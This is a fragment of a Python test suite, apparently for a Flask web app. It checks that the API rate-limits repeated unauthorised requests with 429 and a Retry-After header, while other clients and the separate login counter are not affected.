    assert statuses[:limit] == [401] * limit and statuses[limit] == 429
    assert refused.status_code == 429 and refused.headers["Retry-After"]
    other = app.test_client()
    other.environ_base["REMOTE_ADDR"] = "198.51.100.7"
    assert other.get("/api/v1/surveys", headers={"Authorization": f"Bearer {real}"}).status_code == 200
    assert login(client, make_user()).status_code == 302  # the login has its own counter
